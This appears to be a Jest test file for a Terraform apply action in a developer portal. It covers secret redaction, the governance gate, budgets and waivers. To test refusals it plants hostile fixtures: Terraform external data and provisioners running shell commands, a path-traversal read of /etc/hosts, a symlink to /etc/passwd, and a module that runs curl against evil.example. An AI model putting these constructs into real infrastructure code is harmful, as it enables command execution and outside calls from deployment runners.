import {
  createTerraformStandIn,
  TerraformStandIn,
} from '@groundwork/stand-in-test-utils';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import {
  AWS_SECRET,
  CRITICAL_PLAN,
  DERIVED_SECRET,
  HIGH_PLAN,
  MAIN_TF,
  makeConfig,
  makeWorkspace,
  PASSING_PLAN,
  S3_BACKEND,
  SECRET,
  filesUnder,
  sensitivePlanFile,
} from '../__testUtils__/setup';
import { CheckpointStore, runAction } from '../__testUtils__/runAction';
import {
  inForceBudget,
  inForceWaiver,
  requestsStandIn,
} from '../__testUtils__/requests';
import type { InForceWaiver } from '@groundwork/plugin-requests-common';
import yaml from 'yaml';
import { mockCredentials, mockServices } from '@backstage/backend-test-utils';
import { AuthorizeResult } from '@backstage/plugin-permission-common';
import { examples } from './terraformApply.examples';
import { setTimeout as sleep } from 'node:timers/promises';

const ENTITY = 'component:default/payments-api';

jest.setTimeout(60_000);

describe('terraform:apply with the local CLI executor', () => {
  let tf: TerraformStandIn;
  let ws: ReturnType<typeof makeWorkspace>;

  beforeEach(() => {
    tf = createTerraformStandIn({
      plan: { file: PASSING_PLAN },
      outputs: {
        vpc_id: { value: 'vpc-0a1b2c3d' },
        db_password: { fromVariable: 'db_password', sensitive: true },
      },
    });
    ws = makeWorkspace();
  });
  afterEach(() => {
    tf.remove();
    ws.remove();
  });

  const config = (terraform: Record<string, unknown> = {}) =>
    makeConfig({
      binary: tf.binary,
      pluginCacheDir: tf.pluginCacheDir,
      ...terraform,
    });
  const input = (extra: Record<string, unknown> = {}) => ({
    workingDirectory: 'infra',
    entityRef: ENTITY,
    environment: 'dev',
    vars: { service_name: 'payments-api', replicas: 2 },
    ...extra,
  });

  it('plans, gates, applies exactly the saved plan and reports the run', async () => {
    const run = await runAction({
      config: config(),
      workspace: ws.workspace,
      input: input(),
      processEnv: {
        PATH: process.env.PATH,
        HOME: process.env.HOME,
        BACKEND_DATABASE_PASSWORD: 'portal-db-password',
        GITHUB_TOKEN: 'ghp_portaltoken',
      },
    });
    expect(run.error).toBeUndefined();

    const calls = tf.calls();
    expect(calls.map(c => c.argv[0])).toEqual([
      'version',
      'init',
      'validate',
      'plan',
      'show',
      'apply',
      'output',
    ]);
    const plan = calls[3].argv;
    const planFile = plan
      .find(a => a.startsWith('-out='))!
      .slice('-out='.length);
    expect(calls[4].argv).toEqual(['show', '-json', '-no-color', planFile]);
    expect(calls[5].argv[calls[5].argv.length - 1]).toBe(planFile);
    expect(
      calls.every(c => c.argv.includes('-no-color') || c.argv[0] === 'version'),
    ).toBe(true);
    expect(plan).toContain('-input=false');
    // Vars only in the generated tfvars file, never on the command line.
    expect(calls.flatMap(c => c.argv).join(' ')).not.toContain('payments-api');
    expect(calls[3].tfvarsFiles['zz-groundwork.auto.tfvars.json']).toEqual({
      service_name: 'payments-api',
      replicas: 2,
    });
    // Allow-listed environment: the backend's own secrets are not inherited.
    for (const call of calls) {
      expect(call.envNames).toEqual(
        expect.arrayContaining([
          'TF_IN_AUTOMATION',
          'TF_INPUT',
          'TF_PLUGIN_CACHE_DIR',
          'PATH',
        ]),
      );
      expect(call.envNames).not.toContain('BACKEND_DATABASE_PASSWORD');
      expect(call.envNames).not.toContain('GITHUB_TOKEN');
      expect(call.cwd).toBe(fs.realpathSync(path.join(ws.workspace, 'infra')));
    }

    expect(run.outputs.result).toBe('applied');
    expect(run.outputs.summary).toEqual({
      add: 29,
      change: 0,
      destroy: 0,
      replace: 0,
    });
    expect(run.outputs.outputs).toEqual({ vpc_id: 'vpc-0a1b2c3d' });
    expect(run.outputs.cost).toMatchObject({
      currency: 'USD',
      monthlyBefore: 0,
      budget: 500,
      overBudget: false,
    });
    expect((run.outputs.cost as any).monthlyAfter).toBeCloseTo(116.07, 1);
    expect(run.outputs.findings).toMatchObject({
      failed: { critical: 0, high: 0, medium: 24, low: 0 },
      threshold: 'critical',
    });
    expect(run.log).toContain('Apply complete! Resources: 29 added');
    expect(run.log).toContain('Sensitive outputs not returned: db_password');

    expect(run.reports).toHaveLength(1);
    expect(run.reports[0]).toMatchObject({
      entityRef: ENTITY,
      environment: 'dev',
      runId: 'task-1/infra/dev',
      tool: 'terraform',
      executor: 'cli',
      result: 'applied',
      taskUrl: 'http://portal.example.com/create/tasks/task-1',
      summary: { add: 29 },
      resourceCount: 29,
      compliance: { blocking: false, threshold: 'critical' },
      cost: { currency: 'USD', priceTableDate: expect.any(String) },
    });
    expect(run.reports[0].findings.length).toBeGreaterThan(0);
    expect(
      run.reports[0].findings.every(f => f.verdict !== 'not-applicable'),
    ).toBe(true);

    // Generated files are gone; the state backend came from the environment default.
    expect(fs.readdirSync(path.join(ws.workspace, 'infra')).sort()).toEqual([
      '.terraform.lock.hcl',
      'main.tf',
    ]);
    expect(run.tempDirs().flatMap(d => Object.keys(filesUnder(d)))).toEqual([]);
    expect(tf.state().serial).toBe(1);
    expect(tf.lockHeld()).toBe(false);
  });

  it('configures the environment default backend with its key filled in', async () => {
    const run = await runAction({
      config: config(),
      workspace: ws.workspace,
      input: input(),
    });
    expect(run.error).toBeUndefined();
    const initLog = run.log;
    expect(initLog).toContain('Successfully configured the backend "s3"!');
  });

  it('shares the provider plugin cache between runs', async () => {
    const first = await runAction({
      config: config(),
      workspace: ws.workspace,
      input: input(),
    });
    expect(first.log).toContain('- Installing hashicorp/aws v5.61.0...');
    const again = makeWorkspace();
    try {
      const second = await runAction({
        config: config(),
        workspace: again.workspace,
        input: input(),
      });
      expect(second.error).toBeUndefined();
      expect(second.log).toContain(
        'Using hashicorp/aws v5.61.0 from the shared cache directory',
      );
      expect(second.log).not.toContain('- Installing hashicorp/aws');
    } finally {
      again.remove();
    }
  });

  it('keeps every secret out of the log, the outputs, the report and the workspace', async () => {
    const planFile = sensitivePlanFile(tf.dir);
    tf.configure({
      plan: { file: planFile },
      leakVariables: true,
      outputs: {
        vpc_id: { value: 'vpc-0a1b2c3d' },
        db_password: { fromVariable: 'db_password', sensitive: true },
        master_password: { value: DERIVED_SECRET, sensitive: true },
      },
    });
    const run = await runAction({
      config: config({ environment: { passThrough: ['AWS_*'] } }),
      workspace: ws.workspace,
      input: input({ secretVars: { db_password: SECRET } }),
      processEnv: {
        PATH: process.env.PATH,
        AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE',
        AWS_SECRET_ACCESS_KEY: AWS_SECRET,
      },
    });
    expect(run.error).toBeUndefined();

    const calls = tf.calls();
    const sha = crypto.createHash('sha256').update(SECRET).digest('hex');
    expect(calls[3].tfVarSha256).toEqual({ TF_VAR_db_password: sha });
    expect(calls[3].envNames).toEqual(
      expect.arrayContaining(['AWS_SECRET_ACCESS_KEY']),
    );
    // The stand-in did print them (a leaky provider), so redaction was exercised.
    expect(run.log).toContain('provider debug: variable db_password = "***"');
    expect(run.log).toContain(
      'provider debug: output master_password is "***"',
    );

    const escaped = JSON.stringify(SECRET).slice(1, -1);
    const haystacks = {
      log: run.log,
      outputs: JSON.stringify(run.outputs),
      report: JSON.stringify(run.reports),
      workspace: JSON.stringify(filesUnder(ws.root)),
    };
    for (const [where, text] of Object.entries(haystacks)) {
      for (const secret of [SECRET, escaped, DERIVED_SECRET, AWS_SECRET]) {
        if (text.includes(secret))
          throw new Error(`a secret is in the ${where}`);
      }
    }
    expect(run.outputs.outputs).toEqual({ vpc_id: 'vpc-0a1b2c3d' });
    expect(calls.flatMap(c => c.argv).join(' ')).not.toContain('db_password');
  });

  describe('refuses before anything runs', () => {
    it.each([
      ['../outside', /leads out of the task workspace/],
      ['/etc', /is absolute/],
      ['infra/../../x', /leads out of the task workspace/],
      ['missing', /does not exist/],
    ])('workingDirectory %s', async (dir, message) => {
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({ workingDirectory: dir }),
      });
      expect(run.error?.name).toBe('InputError');
      expect(run.error?.message).toMatch(message);
      expect(tf.calls()).toEqual([]);
      expect(run.reports[0]).toMatchObject({
        result: 'failed',
        message: expect.stringMatching(message),
      });
    });

    it('a working directory that is a symlink out of the workspace', async () => {
      const outside = fs.mkdtempSync(path.join(ws.root, 'outside-'));
      fs.writeFileSync(path.join(outside, 'main.tf'), MAIN_TF);
      fs.symlinkSync(outside, path.join(ws.workspace, 'linked'));
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({ workingDirectory: 'linked' }),
      });
      expect(run.error?.message).toMatch(/symlink that leads out/);
      expect(tf.calls()).toEqual([]);
    });

    it('a symlink inside the working directory that points out', async () => {
      fs.symlinkSync(
        '/etc/passwd',
        path.join(ws.workspace, 'infra', 'passwd.tf'),
      );
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
      });
      expect(run.error?.message).toMatch(
        /passwd\.tf .* is a symlink to \/etc\/passwd/,
      );
      expect(tf.calls()).toEqual([]);
    });

    it('local state, unless allowLocalState is set', async () => {
      const noBackend = config({ environments: {} });
      const refused = await runAction({
        config: noBackend,
        workspace: ws.workspace,
        input: input(),
      });
      expect(refused.error?.message).toMatch(
        /dev has no state backend: set terraform\.environments\.dev\.backend in app-config .* or set allowLocalState: true/,
      );
      expect(tf.calls()).toEqual([]);

      const allowed = await runAction({
        config: noBackend,
        workspace: ws.workspace,
        input: input({ allowLocalState: true }),
      });
      expect(allowed.error).toBeUndefined();
      expect(allowed.log).toContain(
        'Local state: the state file lives in the task workspace',
      );
      // Local in the working directory, whatever backend the code declares.
      expect(tf.calls().find(c => c.argv[0] === 'init')?.backend).toEqual({
        type: 'local',
        config: {},
      });
    });

    it('backend settings given by a step: config decides where state lives', async () => {
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({
          backend: {
            type: 'http',
            settings: { address: 'https://state.example.com/payments' },
          },
        }),
      });
      expect(run.error?.name).toBe('InputError');
      expect(run.error?.message).toBe(
        'backend must name a state backend configured for dev (terraform.environments.dev.backends: none is configured); a step cannot give backend settings of its own. Ask the portal admins to add the backend to terraform.environments.dev.backends and select it by name.',
      );
      expect(tf.calls()).toEqual([]);
    });

    it('a backend name config does not list', async () => {
      const run = await runAction({
        config: config({
          environments: {
            dev: { backend: S3_BACKEND, backends: { shared: S3_BACKEND } },
          },
        }),
        workspace: ws.workspace,
        input: input({ backend: 'other-teams-state' }),
      });
      expect(run.error?.name).toBe('InputError');
      expect(run.error?.message).toMatch(
        /backend "other-teams-state" is not configured for dev: terraform\.environments\.dev\.backends lists shared/,
      );
      expect(tf.calls()).toEqual([]);
    });

    it('an executor config does not allow in the environment', async () => {
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({ executor: 'hcp' }),
      });
      expect(run.error?.name).toBe('InputError');
      expect(run.error?.message).toMatch(
        /executor "hcp" is not allowed in dev: terraform\.environments\.dev\.executors lists cli/,
      );
      expect(tf.calls()).toEqual([]);
    });

    it('hcp settings on a run that is not on HCP Terraform', async () => {
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({ hcp: { organization: 'other-team' } }),
      });
      expect(run.error?.message).toMatch(
        /hcp settings apply to executor hcp only/,
      );
      expect(tf.calls()).toEqual([]);
    });

    it('an entity ref the catalog could not hold', async () => {
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({ entityRef: 'component:default/../../other-team' }),
      });
      expect(run.error?.name).toBe('InputError');
      expect(run.error?.message).toMatch(/has an invalid name/);
      expect(tf.calls()).toEqual([]);
      // Not a run of any entity: nothing is reported.
      expect(run.reports).toEqual([]);
    });

    it('a too old or missing binary', async () => {
      tf.configure({ version: '1.4.6' });
      const old = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
      });
      expect(old.error?.message).toMatch(
        /Terraform 1\.4\.6 .* is too old: this portal needs 1\.5\.0/,
      );
      expect(tf.calls().map(c => c.argv[0])).toEqual(['version']);

      const missing = await runAction({
        config: config({ binary: path.join(tf.dir, 'no-such-terraform') }),
        workspace: ws.workspace,
        input: input(),
      });
      expect(missing.error?.message).toMatch(
        /was not found on the backend host/,
      );
    });
  });

  it('selects a configured backend by name, and writes it over the one the code declares', async () => {
    fs.writeFileSync(
      path.join(ws.workspace, 'infra', 'backend.tf'),
      'terraform {\n  backend "s3" {\n    bucket = "other-team"\n    key = "component/default/their-api/dev/infra.tfstate"\n    region = "eu-west-1"\n  }\n}\n',
    );
    const run = await runAction({
      config: config({
        environments: {
          dev: {
            backend: S3_BACKEND,
            backends: {
              shared: {
                type: 's3',
                settings: {
                  ...S3_BACKEND.settings,
                  bucket: 'acme-shared-{environment}',
                },
              },
            },
          },
        },
      }),
      workspace: ws.workspace,
      input: input({ backend: 'shared' }),
    });
    expect(run.error).toBeUndefined();
    expect(tf.calls().find(c => c.argv[0] === 'init')?.backend).toEqual({
      type: 's3',
      config: {
        ...S3_BACKEND.settings,
        bucket: 'acme-shared-dev',
        key: 'component/default/payments-api/dev/infra.tfstate',
      },
    });
  });

  it('gives two entities with the same name different states, whatever their kind or namespace', async () => {
    const keys: string[] = [];
    for (const entityRef of [
      'component:default/payments-api',
      'resource:default/payments-api',
      'component:finance/payments-api',
      'Component:Default/Payments-API',
    ]) {
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({ entityRef }),
      });
      expect(run.error).toBeUndefined();
      keys.push(
        tf
          .calls()
          .filter(c => c.argv[0] === 'init')
          .pop()!.backend!.config.key as string,
      );
    }
    expect(keys).toEqual([
      'component/default/payments-api/dev/infra.tfstate',
      'resource/default/payments-api/dev/infra.tfstate',
      'component/finance/payments-api/dev/infra.tfstate',
      // The catalog holds one entity whatever the letter case: one state.
      'component/default/payments-api/dev/infra.tfstate',
    ]);
  });

  describe('code that runs when Terraform plans', () => {
    it.each([
      [
        'external',
        'data "external" "whoami" {\n  program = ["sh", "-c", "id"]\n}\n',
        'data "external" "whoami"',
      ],
      [
        'local-exec',
        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "env"\n  }\n}\n',
        'provisioner "local-exec" in resource "terraform_data" "x"',
      ],
      [
        'remote-exec',
        'resource "terraform_data" "x" {\n  provisioner "remote-exec" {\n    inline = ["id"]\n  }\n}\n',
        'provisioner "remote-exec" in resource "terraform_data" "x"',
      ],
      [
        'remote-state',
        'data "terraform_remote_state" "other" {\n  backend = "s3"\n  config = { bucket = "acme-tfstate", key = "component/default/their-api/prod/infra.tfstate", region = "eu-west-1" }\n}\n',
        'data "terraform_remote_state" "other"',
      ],
      [
        'files-outside',
        'output "hosts" {\n  value = file("${path.module}/../../../../etc/hosts")\n}\n',
        'file("${path.module}/../../../../etc/hosts")',
      ],
    ])(
      'refuses %s before init, naming the file, the construct and the config key',
      async (construct, code, what) => {
        fs.writeFileSync(path.join(ws.workspace, 'infra', 'attack.tf'), code);
        const run = await runAction({
          config: config(),
          workspace: ws.workspace,
          input: input(),
        });
        expect(run.error?.name).toBe('NotAllowedError');
        expect(run.error?.message).toContain(`infra/attack.tf: ${what}`);
        expect(run.error?.message).toContain(`(${construct})`);
        expect(run.error?.message).toContain(
          `terraform.environments.dev.allowPlanTimeCode: [${construct}]`,
        );
        expect(tf.calls()).toEqual([]);
        expect(run.reports[0]).toMatchObject({
          result: 'failed',
          message: expect.stringContaining('nothing was run'),
        });
      },
    );

    it('runs what config allows in that environment, and nowhere else', async () => {
      fs.writeFileSync(
        path.join(ws.workspace, 'infra', 'sha.tf'),
        'data "external" "sha" {\n  program = ["git", "rev-parse", "HEAD"]\n}\n',
      );
      const allowing = config({
        environments: {
          dev: { backend: S3_BACKEND, allowPlanTimeCode: ['external'] },
          prod: { backend: S3_BACKEND },
        },
      });
      const dev = await runAction({
        config: allowing,
        workspace: ws.workspace,
        input: input(),
      });
      expect(dev.error).toBeUndefined();
      expect(dev.log).toContain(
        'Allowed in dev by terraform.environments.dev.allowPlanTimeCode: infra/sha.tf: data "external" "sha"',
      );
      const calls = tf.calls().length;
      const prod = await runAction({
        config: allowing,
        workspace: ws.workspace,
        input: input({ environment: 'prod' }),
      });
      expect(prod.error?.message).toMatch(/prod does not allow it/);
      expect(tf.calls()).toHaveLength(calls);
    });

    it('refuses code in the modules init installed, before validate and plan', async () => {
      tf.configure({
        modules: {
          vpc: {
            source: 'registry.terraform.io/acme/vpc/aws',
            files: {
              'main.tf':
                'data "external" "beacon" {\n  program = ["curl", "-s", "https://evil.example/x"]\n}\n',
            },
          },
        },
      });
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
      });
      expect(run.error?.name).toBe('NotAllowedError');
      expect(run.error?.message).toContain(
        'The code in the modules terraform init installed for infra would run programs',
      );
      expect(run.error?.message).toContain(
        'infra/.terraform/modules/vpc/main.tf: data "external" "beacon"',
      );
      expect(tf.calls().map(c => c.argv[0])).toEqual(['version', 'init']);
    });

    it('removes a .terraform folder the workspace brought, so init installs modules itself', async () => {
      const planted = path.join(ws.workspace, 'infra', '.terraform', 'modules');
      fs.mkdirSync(path.join(planted, 'vpc'), { recursive: true });
      fs.writeFileSync(
        path.join(planted, 'vpc', 'main.tf'),
        'data "external" "x" {\n  program = ["id"]\n}\n',
      );
      fs.writeFileSync(
        path.join(planted, 'modules.json'),
        JSON.stringify({
          Modules: [
            {
              Key: 'vpc',
              Source: 'acme/vpc/aws',
              Dir: '.terraform/modules/vpc',
            },
          ],
        }),
      );
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
      });
      expect(run.error).toBeUndefined();
      expect(run.log).toContain(
        'Removed infra/.terraform from the task workspace: init installs providers and modules itself.',
      );
    });
  });

  describe('who may run it', () => {
    const owned = {
      apiVersion: 'backstage.io/v1alpha1',
      kind: 'Component',
      metadata: { name: 'payments-api', namespace: 'default' },
      spec: { type: 'service', owner: 'group:default/payments' },
    };

    it('refuses someone the policy does not allow, before anything runs, and reports nothing', async () => {
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
        entities: [owned],
        permissions: mockServices.permissions({ result: AuthorizeResult.DENY }),
        credentials: mockCredentials.user('user:default/margaret.hamilton'),
      });
      expect(run.error?.name).toBe('NotAllowedError');
      expect(run.error?.message).toMatch(
        /^user:default\/margaret\.hamilton may not run terraform:apply in dev for component:default\/payments-api: only its owners and the platform administrators may/,
      );
      expect(tf.calls()).toEqual([]);
      expect(run.reports).toEqual([]);
    });

    it('refuses a production environment to someone the policy keeps out of it', async () => {
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({
          environment: 'prod',
          entityRef: 'component:default/new-api',
        }),
        permissions: mockServices.permissions({ result: AuthorizeResult.DENY }),
      });
      expect(run.error?.message).toMatch(
        /prod is a production environment, and changing it is limited to the groups in groundwork\.permissions\.productionGroups/,
      );
      expect(tf.calls()).toEqual([]);
    });

    it('reports the run on behalf of the person who started the task', async () => {
      const person = mockCredentials.user('user:default/alan.turing');
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
        credentials: person,
      });
      expect(run.error).toBeUndefined();
      expect(run.reportedFor).toEqual([person]);
    });
  });

  describe('the governance gate', () => {
    it('blocks a plan with a critical failure and applies nothing', async () => {
      tf.configure({ plan: { file: CRITICAL_PLAN } });
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
      });
      expect(run.error?.name).toBe('NotAllowedError');
      expect(run.error?.message).toMatch(
        /governance gate blocked this run in dev; nothing was applied/,
      );
      // The decision travels with the error to the report, but never into
      // the task's stored events, which serialize an error's own keys.
      expect(Object.keys(run.error ?? {})).not.toContain('decision');
      expect(run.error?.message).toMatch(/critical GW-AWS-\d{3} on /);
      // Each blocking finding comes with its rule's remediation.
      expect(run.error?.message).toMatch(/\n {4}Fix: \S/);
      expect(tf.calls().map(c => c.argv[0])).not.toContain('apply');
      expect(tf.state().serial).toBe(0);
      expect(run.outputs.findings).toMatchObject({ failed: { critical: 7 } });
      expect(run.reports).toHaveLength(1);
      expect(run.reports[0]).toMatchObject({
        result: 'blocked',
        compliance: {
          blocking: true,
          threshold: 'critical',
          failed: { critical: 7 },
        },
        message: expect.stringContaining('governance gate blocked'),
      });
      expect(
        run.reports[0].findings.some(
          f => f.severity === 'critical' && f.verdict === 'fail',
        ),
      ).toBe(true);
    });

    it('applies high failures in dev but blocks them in production', async () => {
      tf.configure({ plan: { file: HIGH_PLAN } });
      const dev = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
      });
      expect(dev.error).toBeUndefined();
      expect(dev.reports[0].result).toBe('applied');

      const prod = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({ environment: 'prod' }),
      });
      expect(prod.error?.message).toMatch(/high threshold of prod/);
      expect(prod.reports[0]).toMatchObject({
        result: 'blocked',
        compliance: { threshold: 'high' },
      });
    });

    it('takes the threshold override from app-config', async () => {
      tf.configure({ plan: { file: HIGH_PLAN } });
      const run = await runAction({
        config: config({
          environments: {
            dev: {
              backend: S3_BACKEND,
              gateThreshold: 'high',
            },
          },
        }),
        workspace: ws.workspace,
        input: input(),
      });
      expect(run.error?.name).toBe('NotAllowedError');
    });

    it('lets a step tighten the policy but not loosen it', async () => {
      const tighter = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({ policy: { blockingThreshold: 'medium' } }),
      });
      expect(tighter.error?.message).toMatch(
        /24 finding\(s\) at or above the medium threshold/,
      );

      tf.configure({ plan: { file: CRITICAL_PLAN } });
      const looser = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({
          policy: {
            waivers: [
              {
                rule: 'GW-AWS-002',
                resource: '*',
                reason: 'demo',
                owner: 'me',
                expires: '2099-01-01',
              },
            ],
          },
        }),
      });
      expect(looser.error?.name).toBe('NotAllowedError');
      expect(looser.error?.message).toMatch(
        /may only make the gate stricter.*waive GW-AWS-002/,
      );
      expect(tf.calls().filter(c => c.argv[0] === 'plan')).toHaveLength(1);

      const typo = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({
          policy: { rules: { 'GW-AWS-99': { severity: 'high' } } },
        }),
      });
      expect(typo.error?.message).toMatch(/unknown rule id "GW-AWS-99"/);
    });
  });

  describe("a team's own rules from the policy file", () => {
    const teamPolicy = () => {
      const file = path.join(ws.workspace, '..', 'team-policy.yaml');
      fs.writeFileSync(
        file,
        `version: 1
customRules:
  - id: ACME-001
    title: NAT gateways carry a Team tag
    severity: critical
    resourceTypes: [aws_nat_gateway]
    assert: { attribute: tags.Team, exists: true }
    remediation: { text: Add a Team tag to the NAT gateway. }
`,
      );
      return file;
    };

    it('blocks on a team rule like on the pack, with its remediation, and applies nothing', async () => {
      tf.configure({ plan: { file: PASSING_PLAN } });
      const run = await runAction({
        config: config({ policy: { file: teamPolicy() } }),
        workspace: ws.workspace,
        input: input(),
      });
      expect(run.error?.name).toBe('NotAllowedError');
      expect(run.error?.message).toMatch(
        /critical ACME-001 on module\.vpc\.aws_nat_gateway\.this\[0\]: NAT gateways carry a Team tag: not so \(tags\.Team is not set/,
      );
      expect(run.error?.message).toMatch(
        /\n {4}Fix: Add a Team tag to the NAT gateway\./,
      );
      expect(tf.calls().map(c => c.argv[0])).not.toContain('apply');
      expect(
        run.reports[0].findings.filter(f => f.ruleId === 'ACME-001'),
      ).toHaveLength(3);
    });

    it('refuses a step that would lower a team rule', async () => {
      tf.configure({ plan: { file: PASSING_PLAN } });
      const run = await runAction({
        config: config({ policy: { file: teamPolicy() } }),
        workspace: ws.workspace,
        input: input({
          policy: { rules: { 'ACME-001': { severity: 'low' } } },
        }),
      });
      expect(run.error?.name).toBe('NotAllowedError');
      expect(run.error?.message).toMatch(
        /may only make the gate stricter.*lower ACME-001 from critical to low/,
      );
      expect(tf.calls().filter(c => c.argv[0] === 'plan')).toHaveLength(0);
    });
  });

  describe('the budget check', () => {
    it('warns outside production by default, and blocks when config says so', async () => {
      const warn = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({ environment: 'staging' }),
      });
      expect(warn.error).toBeUndefined();
      expect(warn.log).toMatch(
        /over the staging budget of 100 USD\/month\. \(budget action: warn\)/,
      );
      expect(warn.outputs.cost).toMatchObject({
        budget: 100,
        overBudget: true,
      });

      const block = await runAction({
        config: config({
          environments: {
            staging: {
              backend: S3_BACKEND,
              budgetAction: 'block',
            },
          },
        }),
        workspace: ws.workspace,
        input: input({ environment: 'staging' }),
      });
      expect(block.error?.name).toBe('NotAllowedError');
      expect(block.error?.message).toMatch(/over the staging budget of 100/);
      expect(block.reports[0].result).toBe('blocked');
      expect(tf.calls().filter(c => c.argv[0] === 'apply')).toHaveLength(1);
    });
  });

  describe('waivers and budgets approved by request', () => {
    // 04 in dev with a high threshold: GW-AWS-010 and GW-AWS-018 fail on
    // two instances, GW-AWS-004 on one bucket.
    const highInDev = () =>
      config({
        environments: { dev: { backend: S3_BACKEND, gateThreshold: 'high' } },
        // A step may not change the policy at all: approved waivers are not
        // a step's override and pass regardless.
        policy: { inputOverrides: 'none' },
      });
    const waivers = (extra: Partial<InForceWaiver> = {}) => [
      inForceWaiver({
        entityRef: ENTITY,
        rule: 'GW-AWS-010',
        resource: 'aws_instance.*',
        ...extra,
      }),
      inForceWaiver({
        entityRef: ENTITY,
        rule: 'GW-AWS-018',
        resource: 'aws_instance.*',
        ...extra,
      }),
      inForceWaiver({
        entityRef: ENTITY,
        rule: 'GW-AWS-004',
        resource: 'aws_s3_bucket.usage',
        requestId: 'req-7',
        ...extra,
      }),
    ];

    it('turns the blocking findings an approved waiver covers into waived, and applies', async () => {
      tf.configure({ plan: { file: HIGH_PLAN } });
      const blocked = await runAction({
        config: highInDev(),
        workspace: ws.workspace,
        input: input(),
        requests: requestsStandIn().service,
      });
      expect(blocked.error?.message).toMatch(
        /high GW-AWS-004 on aws_s3_bucket\.usage/,
      );

      const approved = waivers();
      const requests = requestsStandIn({ waivers: approved });
      const run = await runAction({
        config: highInDev(),
        workspace: ws.workspace,
        input: input(),
        requests: requests.service,
      });
      expect(run.error).toBeUndefined();
      expect(run.outputs.result).toBe('applied');
      // Asked with the plugin's own credentials, for this entity and environment.
      expect(requests.calls).toEqual([
        {
          entityRef: ENTITY,
          environment: 'dev',
          credentials: expect.objectContaining({
            principal: expect.objectContaining({
              type: 'service',
              subject: 'plugin:scaffolder',
            }),
          }),
        },
      ]);
      const until = approved[2].expiresAt;
      expect(run.log).toContain(
        `Waived by request req-7 (approved by user:default/grace) until ${until}: GW-AWS-004 on aws_s3_bucket.usage.`,
      );
      expect(run.log).toMatch(
        /Policy \(dev, threshold high\): failed 0 critical, 0 high, .*; 5 waived/,
      );
      const usage = run.reports[0].findings.find(
        f => f.ruleId === 'GW-AWS-004' && f.address === 'aws_s3_bucket.usage',
      );
      expect(usage).toMatchObject({
        verdict: 'waived',
        waiver: {
          owner: 'user:default/grace',
          expires: until,
          expired: false,
        },
      });
      expect(usage?.message).toContain(
        `Waived until ${until} by user:default/grace: request req-7: the fix ships next sprint`,
      );
    });

    it('does not apply an expired waiver, nor one for another environment or entity', async () => {
      tf.configure({ plan: { file: HIGH_PLAN } });
      const cases: Array<[string, Partial<InForceWaiver>]> = [
        ['expired', { expiresAt: new Date(Date.now() - 1000).toISOString() }],
        ['another environment', { environment: 'staging' }],
        ['another entity', { entityRef: 'component:default/ledger' }],
      ];
      for (const [what, extra] of cases) {
        // A backend that answers with more than it should (an expiry job
        // behind, a filter lost): the gate checks each waiver itself.
        const run = await runAction({
          config: highInDev(),
          workspace: ws.workspace,
          input: input(),
          requests: requestsStandIn({ waivers: waivers(extra), lagging: true })
            .service,
        });
        expect([what, run.error?.name]).toEqual([what, 'NotAllowedError']);
        expect(run.error?.message).toMatch(
          /5 finding\(s\) at or above the high threshold of dev/,
        );
        expect(run.log).not.toContain('Waived by request');
      }
      expect(tf.calls().filter(c => c.argv[0] === 'apply')).toHaveLength(0);
    });

    it('lets an over-budget run pass with a budget raised by request, until it ends', async () => {
      const blockBudget = () =>
        config({
          environments: {
            staging: { backend: S3_BACKEND, budgetAction: 'block' },
          },
        });
      const raised = await runAction({
        config: blockBudget(),
        workspace: ws.workspace,
        input: input({ environment: 'staging' }),
        requests: requestsStandIn({
          budgets: [
            inForceBudget({
              entityRef: ENTITY,
              monthlyBudget: 150,
              approvedAt: '2026-12-01T00:00:00Z',
            }),
            // Approved last: the decision that counts.
            inForceBudget({
              entityRef: ENTITY,
              monthlyBudget: 200,
              requestId: 'req-9',
              approvedAt: '2026-12-02T00:00:00Z',
            }),
          ],
        }).service,
      });
      expect(raised.error).toBeUndefined();
      expect(raised.outputs.cost).toMatchObject({
        budget: 200,
        overBudget: false,
      });
      expect(raised.log).toMatch(
        /Budget by request req-9 \(approved by user:default\/grace\) until \S+: 200 USD\/month in staging, instead of 100 USD\/month\./,
      );

      const ended = await runAction({
        config: blockBudget(),
        workspace: ws.workspace,
        input: input({ environment: 'staging' }),
        requests: requestsStandIn({
          budgets: [
            inForceBudget({
              entityRef: ENTITY,
              expiresAt: new Date(Date.now() - 1).toISOString(),
            }),
          ],
          lagging: true,
        }).service,
      });
      expect(ended.error?.message).toMatch(/over the staging budget of 100/);
      expect(tf.calls().filter(c => c.argv[0] === 'apply')).toHaveLength(1);
    });

    it('says so when the requests backend cannot answer, and applies no waiver', async () => {
      tf.configure({ plan: { file: HIGH_PLAN } });
      const run = await runAction({
        config: highInDev(),
        workspace: ws.workspace,
        input: input(),
        requests: requestsStandIn({ waivers: waivers(), down: true }).service,
      });
      expect(run.messages).toContainEqual({
        level: 'warn',
        message: expect.stringMatching(
          /^Could not read the waivers and budgets approved by request for component:default\/payments-api in dev \(.*503 Service Unavailable.*\); this run applies none of them/,
        ),
      });
      expect(run.error?.name).toBe('NotAllowedError');
      expect(run.error?.message).toMatch(
        /request a waiver for the finding in the portal/,
      );
      expect(run.reports[0].result).toBe('blocked');
    });
  });

